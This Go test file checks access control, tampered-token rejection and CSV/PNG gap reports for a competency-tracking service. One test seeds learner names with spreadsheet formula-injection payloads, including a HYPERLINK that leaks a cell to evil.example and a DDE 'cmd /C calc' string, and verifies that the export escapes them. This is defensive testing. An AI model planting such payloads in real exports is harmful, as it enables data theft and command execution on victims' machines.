package graph_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"image/png"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/openkarmayogi/karmayogi/graph"
	"github.com/openkarmayogi/karmayogi/internal/report"
	"github.com/openkarmayogi/karmayogi/internal/store"
	"github.com/openkarmayogi/karmayogi/internal/store/storetest"
	"github.com/openkarmayogi/karmayogi/models"
)

// reportFiles serves the report files over the same store and token secret as e's
// GraphQL endpoint, so e's clients' tokens work on both.
func reportFiles(t *testing.T, e *attackEnv) string {
	t.Helper()
	db := e.db
	srv := httptest.NewServer(graph.NewReportsHandler(services(db, nil), e.pa.tokens))
	t.Cleanup(srv.Close)
	return srv.URL
}

// fileResponse is what a report file request got.
type fileResponse struct {
	Status int
	Header http.Header
	Body   []byte
}

// code is the extensions.code of a JSON refusal, "" for none.
func (r fileResponse) code(t *testing.T) string {
	t.Helper()
	var body response
	if err := json.Unmarshal(r.Body, &body); err != nil || len(body.Errors) != 1 {
		t.Fatalf("HTTP %d, want one JSON error: %.300s", r.Status, r.Body)
	}
	if ct := r.Header.Get("Content-Type"); ct != "application/json" {
		t.Errorf("refusal Content-Type %q", ct)
	}
	assertNoLeak(t, string(r.Body))
	code, _ := body.Errors[0].Extensions["code"].(string)
	return code
}

// fetch GETs base+path with c's token (authorization, when set, replaces it).
func fetch(t *testing.T, c *client, base, path string, authorization ...string) fileResponse {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, base+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(authorization) > 0 {
		req.Header.Set("Authorization", authorization[0])
	} else if c.token != "" {
		req.Header.Set("Authorization", "Bearer "+c.token)
	}
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return fileResponse{Status: res.StatusCode, Header: res.Header, Body: b}
}

func TestReportFilesAccess(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		e := newAttackEnv(t, db)
		base := reportFiles(t, e)
		registration := e.pa.as(models.Caller{Role: models.RoleLearner, Email: "new.joiner@gov.in", Registration: true})
		for _, file := range []string{"/reports/gaps.png", "/reports/gaps.csv"} {
			t.Run(strings.TrimPrefix(file, "/reports/"), func(t *testing.T) {
				for _, tc := range []struct {
					name   string
					c      *client
					query  string
					status int
					code   string
				}{
					{"PlatformAdmin", e.pa, "organisation=MOF", http.StatusOK, ""},
					{"OrgAdminOwn", e.doeAdmin, "organisation=DOE", http.StatusOK, ""},
					{"OrgAdminBelow", e.doeAdmin, "organisation=DGACR&type=behavioural", http.StatusOK, ""},
					{"OrgAdminAbove", e.doeAdmin, "organisation=MOF", http.StatusForbidden, graph.CodeForbidden},
					{"OtherMinistry", e.mohfwAdmin, "organisation=DOE", http.StatusForbidden, graph.CodeForbidden},
					{"Learner", e.asha, "organisation=DGACR", http.StatusForbidden, graph.CodeForbidden},
					{"ContentProvider", e.provider, "organisation=DOE", http.StatusForbidden, graph.CodeForbidden},
					{"RegistrationToken", registration, "organisation=DOE", http.StatusForbidden, graph.CodeForbidden},
					{"Anonymous", e.anon, "organisation=DOE", http.StatusUnauthorized, graph.CodeUnauthenticated},
					{"UnknownOrganisation", e.pa, "organisation=NOPE", http.StatusNotFound, graph.CodeNotFound},
					{"NoOrganisation", e.pa, "", http.StatusBadRequest, graph.CodeBadUserInput},
					{"EmptyOrganisation", e.pa, "organisation=", http.StatusBadRequest, graph.CodeBadUserInput},
					{"TwoOrganisations", e.pa, "organisation=MOF&organisation=DOE", http.StatusBadRequest, graph.CodeBadUserInput},
					{"UnknownParameter", e.pa, "organisation=MOF&org=DOE", http.StatusBadRequest, graph.CodeBadUserInput},
					{"BadType", e.pa, "organisation=MOF&type=SOFT", http.StatusBadRequest, graph.CodeBadUserInput},
					{"UnknownRole", e.pa, "organisation=MOF&role=NOPE", http.StatusBadRequest, graph.CodeBadUserInput},
					// The organisation's admins alone learn whether a role exists through it.
					{"UnknownRoleForbidden", e.mohfwAdmin, "organisation=MOF&role=NOPE", http.StatusForbidden, graph.CodeForbidden},
				} {
					t.Run(tc.name, func(t *testing.T) {
						r := fetch(t, tc.c, base, file+"?"+tc.query)
						if r.Status != tc.status {
							t.Fatalf("HTTP %d, want %d: %.300s", r.Status, tc.status, r.Body)
						}
						if tc.code != "" {
							if got := r.code(t); got != tc.code {
								t.Errorf("code %s, want %s: %s", got, tc.code, r.Body)
							}
						}
					})
				}
				t.Run("BadToken", func(t *testing.T) {
					for _, auth := range []string{"Bearer not-a-token", "Basic dXNlcjpwYXNz", "Bearer " + tamper(t, e.asha.token, func(c map[string]any) { c["role"] = "PLATFORM_ADMIN" })} {
						r := fetch(t, e.pa, base, file+"?organisation=MOF", auth)
						if r.Status != http.StatusUnauthorized || r.code(t) != graph.CodeUnauthenticated {
							t.Errorf("%.20s: HTTP %d: %s", auth, r.Status, r.Body)
						}
					}
				})
			})
		}
	})
}

// gapRow is a CSV row of the per-learner gaps.
type gapRow struct {
	employee, name, organisation, competency string
	required, current                        int
	gap, weight                              float64
}

// readGapCSV parses a gaps CSV, checking its header.
func readGapCSV(t *testing.T, body []byte) []gapRow {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("not CSV: %v\n%s", err, body)
	}
	if len(records) == 0 || !slices.Equal(records[0], []string{"employee_code", "name", "organisation_code", "competency_code",
		"required_level", "current_level", "gap", "weight"}) {
		t.Fatalf("header %v", records[:min(1, len(records))])
	}
	var rows []gapRow
	for _, r := range records[1:] {
		g := gapRow{employee: r[0], name: r[1], organisation: r[2], competency: r[3]}
		var errs [4]error
		g.required, errs[0] = strconv.Atoi(r[4])
		g.current, errs[1] = strconv.Atoi(r[5])
		g.gap, errs[2] = strconv.ParseFloat(r[6], 64)
		g.weight, errs[3] = strconv.ParseFloat(r[7], 64)
		for _, err := range errs {
			if err != nil {
				t.Fatalf("row %v: %v", r, err)
			}
		}
		rows = append(rows, g)
	}
	return rows
}

func TestReportCSVAgreesWithCompetencyGaps(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		e := newAttackEnv(t, db)
		base := reportFiles(t, e)
		// Evidence, so that the learners' gaps differ from the priors' alone.
		for _, ev := range []map[string]any{
			{"learnerId": e.f["$asha"], "competencyId": e.f["$proc"], "source": "SUPERVISOR", "level": 2},
			{"learnerId": e.f["$asha"], "competencyId": e.f["$emp"], "source": "SELF", "level": 1},
			{"learnerId": e.f["$devendra"], "competencyId": e.f["$tax"], "source": "SUPERVISOR", "level": 4},
		} {
			e.pa.bind(t).data(`mutation($e: RecordEvidenceInput!) { recordEvidence(input: $e) { evidence { id } } }`, map[string]any{"e": ev})
		}

		r := fetch(t, e.pa, base, "/reports/gaps.csv?organisation=MOF")
		if r.Status != http.StatusOK || r.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
			!strings.Contains(r.Header.Get("Content-Disposition"), `filename="gaps-MOF.csv"`) {
			t.Fatalf("HTTP %d %v: %s", r.Status, r.Header, r.Body)
		}
		rows := readGapCSV(t, r.Body)
		byLearner := map[string][]gapRow{}
		for i, g := range rows {
			byLearner[g.employee] = append(byLearner[g.employee], g)
			if i > 0 && (rows[i-1].employee > g.employee || rows[i-1].employee == g.employee && rows[i-1].competency >= g.competency) {
				t.Errorf("rows out of order at %d: %v after %v", i, g, rows[i-1])
			}
		}
		// Chitra (MOHFW) is outside MOF; the three others are in it.
		if len(byLearner) != 3 || byLearner["E003"] != nil {
			t.Fatalf("learners %v", byLearner)
		}
		orgOf := map[string]string{"E001": "DGACR", "E002": "DOE", "E004": "MOF"}
		for emp, key := range map[string]string{"E001": "$asha", "E002": "$bhaskar", "E004": "$devendra"} {
			var gaps struct {
				CompetencyGaps []struct {
					Competency    struct{ Code string }
					RequiredLevel int
					CurrentLevel  int
					Gap, Weight   float64
				}
			}
			decode(t, e.pa.bind(t).data(`query($l: ID!) { competencyGaps(learnerId: $l) {
				competency { code } requiredLevel currentLevel gap weight } }`, map[string]any{"l": e.f[key]}), &gaps)
			got := byLearner[emp]
			if len(got) != len(gaps.CompetencyGaps) || len(got) == 0 {
				t.Fatalf("%s: %d CSV rows, %d competencyGaps", emp, len(got), len(gaps.CompetencyGaps))
			}
			for _, want := range gaps.CompetencyGaps {
				i := slices.IndexFunc(got, func(g gapRow) bool { return g.competency == want.Competency.Code })
				if i < 0 {
					t.Errorf("%s: no CSV row for %s", emp, want.Competency.Code)
					continue
				}
				g := got[i]
				if g.required != want.RequiredLevel || g.current != want.CurrentLevel || !near(g.gap, want.Gap) || !near(g.weight, want.Weight) ||
					g.organisation != orgOf[emp] || g.name != people[map[string]string{"E001": "asha", "E002": "bhaskar", "E004": "devendra"}[emp]][0] {
					t.Errorf("%s %s: CSV %+v, competencyGaps %+v", emp, g.competency, g, want)
				}
			}
		}

		// Filters: a role keeps its holders, measured against it; a type its competencies.
		so := readGapCSV(t, fetch(t, e.pa, base, "/reports/gaps.csv?organisation=MOF&role=SO").Body)
		for _, g := range so {
			if (g.employee != "E001" && g.employee != "E004") || (g.competency != "PROC" && g.competency != "EMP") {
				t.Errorf("role SO let through %+v", g)
			}
		}
		beh := readGapCSV(t, fetch(t, e.doeAdmin, base, "/reports/gaps.csv?organisation=DOE&type=BEHAVIOURAL").Body)
		if len(beh) != 1 || beh[0].employee != "E001" || beh[0].competency != "EMP" {
			t.Errorf("DOE's behavioural gaps: %+v", beh)
		}
		// A subtree with nobody in it is a header alone.
		if empty := readGapCSV(t, fetch(t, e.mohfwAdmin, base, "/reports/gaps.csv?organisation=MOHFW&role=SO").Body); len(empty) != 0 {
			t.Errorf("MOHFW holds no SO, got %+v", empty)
		}
	})
}

func TestReportCSVEscapesFormulas(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		e := newAttackEnv(t, db)
		base := reportFiles(t, e)
		evil := map[string]string{
			"E900": `=HYPERLINK("http://evil.example/?leak="&A1,"Click for your certificate")`,
			"E901": "-2+3",
			"E902": "@SUM(1+1)*cmd|' /C calc'!A0",
			"E903": "+91 98100 00000",
		}
		for emp, name := range evil {
			e.pa.bind(t).data(`mutation($input: RegisterLearnerInput!) { registerLearner(input: $input) { learner { id } } }`,
				map[string]any{"input": map[string]any{"employeeCode": emp, "name": name, "email": strings.ToLower(emp) + "@gov.in",
					"designation": "Section Officer", "organisationId": e.f["$dgacr"], "roleIds": []string{e.f["$so"]}}})
		}
		r := fetch(t, e.doeAdmin, base, "/reports/gaps.csv?organisation=DOE")
		if r.Status != http.StatusOK {
			t.Fatalf("HTTP %d: %s", r.Status, r.Body)
		}
		seen := map[string]bool{}
		for _, g := range readGapCSV(t, r.Body) {
			if want, ok := evil[g.employee]; ok {
				seen[g.employee] = true
				if g.name != "'"+want {
					t.Errorf("%s: name cell %q, want %q", g.employee, g.name, "'"+want)
				}
			}
			for _, cell := range []string{g.employee, g.name, g.organisation, g.competency} {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("cell %q would run as a formula", cell)
				}
			}
		}
		if len(seen) != len(evil) {
			t.Errorf("rows for %v, want all of %v", seen, evil)
		}
		if !bytes.Contains(r.Body, []byte(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for your certificate"")"`)) {
			t.Errorf("the HYPERLINK cell is not quoted and defused:\n%s", r.Body)
		}
	})
}

func TestReportPNG(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		e := newAttackEnv(t, db)
		base := reportFiles(t, e)
		var org struct {
			CreateOrganisation struct{ Organisation struct{ ID string } }
		}
		decode(t, e.pa.bind(t).data(`mutation($input: CreateOrganisationInput!) { createOrganisation(input: $input) { organisation { id } } }`,
			map[string]any{"input": map[string]any{"code": "MOHFW-NEW", "name": "A New Directorate", "type": "DEPARTMENT", "parentId": e.f["$mohfw"]}}), &org)
		for _, tc := range []struct {
			name string
			c    *client
			path string
		}{
			{"Ministry", e.pa, "organisation=MOF"},
			{"Department", e.doeAdmin, "organisation=DOE&role=SO"},
			{"BehaviouralOnly", e.pa, "organisation=MOF&type=BEHAVIOURAL"},
			{"NoLearners", e.mohfwAdmin, "organisation=" + url.QueryEscape("MOHFW-NEW")},
			{"NoneHoldTheRole", e.pa, "organisation=MOHFW&role=DS"},
		} {
			t.Run(tc.name, func(t *testing.T) {
				r := fetch(t, tc.c, base, "/reports/gaps.png?"+tc.path)
				if r.Status != http.StatusOK || r.Header.Get("Content-Type") != "image/png" {
					t.Fatalf("HTTP %d %q: %.300s", r.Status, r.Header.Get("Content-Type"), r.Body)
				}
				img, err := png.Decode(bytes.NewReader(r.Body))
				if err != nil {
					t.Fatalf("not a PNG: %v", err)
				}
				if size := img.Bounds().Size(); size.X != 1200 || size.Y != report.Height {
					t.Errorf("size %v, want 1200x800", size)
				}
				if r.Header.Get("Content-Length") != strconv.Itoa(len(r.Body)) {
					t.Errorf("Content-Length %s for %d bytes", r.Header.Get("Content-Length"), len(r.Body))
				}
			})
		}
	})
}
